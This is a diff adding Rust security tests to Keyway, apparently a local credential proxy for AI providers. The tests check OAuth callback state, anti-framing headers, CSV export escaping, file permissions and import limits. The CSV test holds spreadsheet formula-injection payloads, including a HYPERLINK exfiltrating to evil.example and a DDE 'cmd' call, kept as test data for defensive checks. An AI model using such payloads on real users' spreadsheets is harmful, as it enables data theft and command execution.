@@ -1131,3 +1131,310 @@ async fn the_management_token_rotates_in_the_running_instance() {
     // Commands still find the instance with the token now in the keyring.
     assert!(keyway.cli(&["status"]).await.ok().contains("listening on"));
 }
+
+// ---------------------------------------------------------------------------------------------
+// Smaller doors
+// ---------------------------------------------------------------------------------------------
+
+/// A login as `GET /api/logins/{id}` shows it.
+async fn login_state(keyway: &Keyway, id: &str) -> Value {
+    keyway.api_get(&format!("/logins/{id}")).await
+}
+
+/// Any local page can reach a pending login's loopback callback. One without the login's
+/// `state` (a wrong code, a forged refusal) is answered with an error and the login keeps
+/// waiting; the real redirect still completes it.
+#[tokio::test]
+async fn a_callback_with_a_wrong_state_leaves_the_login_waiting() {
+    let fake = FakeUpstream::start().await;
+    fake.claude_oauth().login_as("alice");
+    let keyway = Setup::new(&fake.base_url(), "").start().await;
+    let r = keyway
+        .api(reqwest::Method::POST, "/logins")
+        .json(&json!({"provider": "anthropic", "label": "Max", "accept_terms_risk": true}))
+        .send()
+        .await
+        .expect("POST /api/logins");
+    assert_eq!(r.status(), 201);
+    let login: Value = r.json().await.expect("JSON");
+    let id = login["id"].as_str().expect("id").to_owned();
+    let url = login["url"].as_str().expect("url").to_owned();
+
+    let callback = keyway.setup.redirect_uri("anthropic");
+    let browser = reqwest::Client::builder()
+        .no_proxy()
+        .build()
+        .expect("client");
+    for probe in [
+        "?code=forged&state=wrong",
+        "?code=forged",
+        "?error=access_denied&state=wrong",
+        "?error=access_denied",
+    ] {
+        let r = tokio::time::timeout(WAIT, browser.get(format!("{callback}{probe}")).send())
+            .await
+            .expect("the callback answers")
+            .expect("the callback listens");
+        assert_eq!(r.status(), 400, "{probe}");
+        assert_eq!(
+            login_state(&keyway, &id).await["state"],
+            "pending",
+            "{probe}"
+        );
+    }
+
+    // The real redirect (the fake's authorize page sends the browser back with the state).
+    let page = tokio::time::timeout(WAIT, browser.get(&url).send())
+        .await
+        .expect("login page")
+        .expect("reachable");
+    assert_eq!(page.status(), 200);
+    let deadline = Instant::now() + WAIT;
+    loop {
+        let state = login_state(&keyway, &id).await;
+        if state["state"] != "pending" {
+            assert_eq!(state["state"], "done", "{state}");
+            break;
+        }
+        assert!(
+            Instant::now() < deadline,
+            "the login never finished: {state}"
+        );
+        tokio::time::sleep(Duration::from_millis(50)).await;
+    }
+}
+
+/// The dashboard cannot be framed by another page (clickjacking).
+#[tokio::test]
+async fn the_dashboard_refuses_to_be_framed() {
+    let fake = FakeUpstream::start().await;
+    let keyway = Setup::new(&fake.base_url(), "").start().await;
+    for path in ["/", "/assets/missing.js"] {
+        let r = keyway
+            .http
+            .get(keyway.url(path))
+            .send()
+            .await
+            .expect("page");
+        let csp = r
+            .headers()
+            .get("content-security-policy")
+            .and_then(|v| v.to_str().ok())
+            .unwrap_or_default();
+        assert!(csp.contains("frame-ancestors 'none'"), "{path}: {csp:?}");
+        assert_eq!(
+            r.headers().get("x-frame-options").map(|v| v.as_bytes()),
+            Some(&b"DENY"[..]),
+            "{path}"
+        );
+    }
+}
+
+/// A model name that a spreadsheet would run as a formula is exported as text.
+#[tokio::test]
+async fn the_usage_csv_exports_formulas_as_text() {
+    let fake = FakeUpstream::start().await;
+    fake.register_key(Provider::Anthropic, "sk-ant");
+    let setup = Setup::new(&fake.base_url(), "");
+    setup.add_account("anthropic", "A", "sk-ant").await;
+    let keyway = setup.start().await;
+    let formulas = [
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1)",
+    ];
+    for model in formulas {
+        let r = keyway.anthropic(model).await;
+        assert_eq!(r.status(), 200, "{model}");
+    }
+    let csv = keyway
+        .api(reqwest::Method::GET, "/usage.csv")
+        .send()
+        .await
+        .expect("csv")
+        .text()
+        .await
+        .expect("text");
+    for model in formulas {
+        let quoted = format!("'{model}").replace('"', "\"\"");
+        assert!(csv.contains(&quoted), "{model} exported as text: {csv}");
+    }
+    for line in csv.lines().skip(1) {
+        for cell in line.split(',') {
+            let cell = cell.trim_start_matches('"');
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@']),
+                "a cell a spreadsheet would run: {cell} in {line}"
+            );
+        }
+    }
+}
+
+/// `POST /api/imports` reads only regular files of at most 1 MiB: a device or a pipe is
+/// refused at once, not read for ever.
+#[tokio::test]
+async fn imports_refuse_devices_and_pipes_at_once() {
+    let fake = FakeUpstream::start().await;
+    let setup = Setup::new(&fake.base_url(), "");
+    let fifo = setup.dir().join("credentials.fifo");
+    let made = std::process::Command::new("mkfifo")
+        .arg(&fifo)
+        .status()
+        .expect("mkfifo");
+    assert!(made.success());
+    let big = setup.dir().join("big.json");
+    std::fs::write(&big, vec![b' '; 2 * 1024 * 1024]).expect("write");
+    let keyway = setup.start().await;
+    for path in [
+        "/dev/zero".to_owned(),
+        fifo.display().to_string(),
+        big.display().to_string(),
+    ] {
+        let started = Instant::now();
+        let r = tokio::time::timeout(
+            WAIT,
+            keyway
+                .api(reqwest::Method::POST, "/imports")
+                .json(&json!({"source": "claude-code", "path": path, "accept_terms_risk": true}))
+                .send(),
+        )
+        .await
+        .expect("answered, not stuck reading")
+        .expect("POST");
+        assert_eq!(r.status(), 400, "{path}");
+        assert!(started.elapsed() < Duration::from_secs(5), "{path}");
+        let body: Value = r.json().await.expect("JSON");
+        let message = body["error"]["message"].as_str().unwrap_or_default();
+        assert!(
+            message.contains("not a regular file") || message.contains("larger than"),
+            "{path}: {message}"
+        );
+    }
+}
+
+/// The permission bits of `path`.
+fn mode(path: &std::path::Path) -> u32 {
+    use std::os::unix::fs::PermissionsExt;
+    std::fs::metadata(path)
+        .unwrap_or_else(|e| panic!("{}: {e}", path.display()))
+        .permissions()
+        .mode()
+        & 0o777
+}
+
+fn set_mode(path: &std::path::Path, bits: u32) {
+    use std::os::unix::fs::PermissionsExt;
+    std::fs::set_permissions(path, std::fs::Permissions::from_mode(bits)).expect("chmod");
+}
+
+/// What Keyway keeps about the user's accounts and keys is readable by the user alone: the
+/// data dir, the logs, the usage history, the account facts, Connect's backups, and a tool's
+/// config file once it holds the client key (its own mode comes back when disconnected).
+/// Files an older Keyway left readable by all are narrowed at start.
+#[tokio::test]
+async fn keyways_files_are_private_to_their_owner() {
+    let fake = FakeUpstream::start().await;
+    fake.register_key(Provider::Anthropic, "sk-ant");
+    let setup = Setup::new(&fake.base_url(), "").with_home();
+    setup.add_account("anthropic", "A", "sk-ant").await;
+    // As an older Keyway left them: readable by all.
+    let data = setup.data_dir();
+    std::fs::create_dir_all(data.join("logs")).expect("logs");
+    std::fs::write(data.join("logs/keyway.log.2026-01-01"), "old\n").expect("old log");
+    std::fs::write(data.join("state.json"), "{}").expect("state");
+    for (path, bits) in [
+        (data.clone(), 0o755),
+        (data.join("logs"), 0o755),
+        (data.join("logs/keyway.log.2026-01-01"), 0o644),
+        (data.join("state.json"), 0o644),
+    ] {
+        set_mode(&path, bits);
+    }
+    let home = setup.home().expect("home").to_owned();
+    let settings = home.join(".claude/settings.json");
+    std::fs::create_dir_all(settings.parent().expect("dir")).expect("mkdir");
+    std::fs::write(&settings, "{\"model\": \"opus\"}\n").expect("settings");
+    set_mode(&settings, 0o644);
+
+    let keyway = setup.start().await;
+    assert_eq!(keyway.anthropic("claude-sonnet-4-5").await.status(), 200);
+    let _ = keyway.api_get("/usage").await;
+    let r = keyway
+        .api(reqwest::Method::POST, "/connect/claude-code")
+        .send()
+        .await
+        .expect("connect");
+    assert_eq!(r.status(), 200, "{}", r.text().await.unwrap_or_default());
+    assert!(
+        std::fs::read_to_string(&settings)
+            .expect("settings")
+            .contains(&keyway.client_key),
+        "the tool's file holds the client key now"
+    );
+
+    let mut private = vec![
+        (data.clone(), 0o700),
+        (data.join("logs"), 0o700),
+        (data.join("state.json"), 0o600),
+        (data.join("connect-backups"), 0o700),
+        (data.join("connect-backups/claude-code"), 0o700),
+        (data.join("connect-backups/claude-code/original"), 0o600),
+        (settings.clone(), 0o600),
+    ];
+    for name in ["usage.sqlite3", "usage.sqlite3-wal", "usage.sqlite3-shm"] {
+        private.push((data.join(name), 0o600));
+    }
+    for log in std::fs::read_dir(data.join("logs"))
+        .expect("logs")
+        .flatten()
+    {
+        private.push((log.path(), 0o600));
+    }
+    for (path, bits) in &private {
+        assert_eq!(mode(path), *bits, "{} is {:o}", path.display(), mode(path));
+    }
+
+    let r = keyway
+        .api(reqwest::Method::DELETE, "/connect/claude-code")
+        .send()
+        .await
+        .expect("disconnect");
+    assert_eq!(r.status(), 200);
+    assert_eq!(
+        std::fs::read_to_string(&settings).expect("restored"),
+        "{\"model\": \"opus\"}\n"
+    );
+    assert_eq!(
+        mode(&settings),
+        0o644,
+        "the file's own mode came back with its bytes"
+    );
+}
+
+/// A save interrupted by a crash leaves its temporary file; the next start removes it (beside
+/// the config and in the data dir), and keeps everything else.
+#[tokio::test]
+async fn a_crash_leaves_no_stray_temporary_file_after_the_next_start() {
+    let fake = FakeUpstream::start().await;
+    let setup = Setup::new(&fake.base_url(), "");
+    let mut gone = std::process::Command::new("true").spawn().expect("spawn");
+    let dead = gone.id();
+    gone.wait().expect("wait");
+    let config_dir = setup.config_path.parent().expect("dir").to_owned();
+    std::fs::create_dir_all(setup.data_dir()).expect("data dir");
+    let strays = [
+        config_dir.join(format!(".config.toml.{dead}-0.tmp")),
+        setup.data_dir().join(format!(".state.json.{dead}-3.tmp")),
+    ];
+    let kept = config_dir.join("notes.tmp");
+    for f in strays.iter().chain([&kept]) {
+        std::fs::write(f, "half a file").expect("write");
+    }
+    let keyway = setup.start().await;
+    for f in &strays {
+        assert!(!f.exists(), "{} was removed", f.display());
+    }
+    assert!(kept.exists(), "a file that is not Keyway's stays");
+    keyway.api_get("/status").await;
+}
